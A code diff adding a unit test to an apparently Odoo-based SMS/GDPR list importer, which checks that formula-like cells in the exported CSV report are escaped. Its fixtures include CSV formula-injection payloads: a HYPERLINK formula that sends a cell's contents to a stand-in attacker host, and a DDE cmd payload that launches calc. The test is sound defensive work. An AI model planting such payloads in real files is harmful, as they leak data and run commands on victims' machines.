@@ -15,6 +15,8 @@ from .import_common import BINARY_DATA, ImportFileAssertions
 
 # The sample purchased list kept with the core tests: Windows-1252, ";", CRLF, French headers.
 RENTED_LIST_PATH = Path(__file__).resolve().parents[2] / "tests" / "data" / "rented_list_fr.csv"
+# A list whose cells are spreadsheet formulas, kept with the core tests.
+FORMULAS_PATH = RENTED_LIST_PATH.with_name("formulas.csv")
 
 # Line of rented_list_fr.csv -> (decision, reason codes) when the wizard gives every missing value.
 RENTED_LIST_EXPECTED = {
@@ -243,8 +245,26 @@ class TestListImport(SmsGdprCase, ImportFileAssertions):
         rows = list(csv.reader(io.StringIO(text), delimiter=";"))
         self.assertEqual(rows[0][:2], ["Line", "Name"])
         self.assertEqual(len(rows), 20)
-        self.assertEqual(rows[2][:5], ["3", "Claire Martin", "+33 6 12 34 56 01", "+33612345601", "Skip"])
+        self.assertEqual(rows[2][:5], ["3", "Claire Martin", "'+33 6 12 34 56 01", "'+33612345601", "Skip"])
         self.assertEqual(wizard.report_filename, "rented_list_fr - report.csv")
+
+    def test_report_csv_escapes_formulas(self):
+        wizard = self._wizard(FORMULAS_PATH.read_bytes(), "formulas.csv")
+        wizard.action_import()
+        text = base64.b64decode(wizard.report_file).decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+        self.assertEqual(rows[1][1:4], ["'@SUM(A1) =1+1", "'+33612345678", "'+33612345678"])
+        self.assertEqual(rows[2][1], "P Nom")
+        for row in rows:
+            for cell in row:
+                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"unescaped cell {cell!r}")
+
+        hyperlink, command = self._line(wizard, 2).lead_id, self._line(wizard, 3).lead_id
+        self.assertEqual(hyperlink.name, '=HYPERLINK("http://evil.example/?"&A1,"x")')
+        self.assertEqual(hyperlink.contact_name, "@SUM(A1) =1+1")
+        self.assertEqual(hyperlink.sms_gdpr_data_source_detail, "-2+3")
+        self.assertEqual(command.partner_name, "=cmd|' /C calc'!A0")
+        self.assertEqual(self._line(wizard, 2).name, "@SUM(A1) =1+1", "the report line keeps the value")
 
     def test_form_flow(self):
         wizard_form = Form(self.env["sms.gdpr.list.import"])
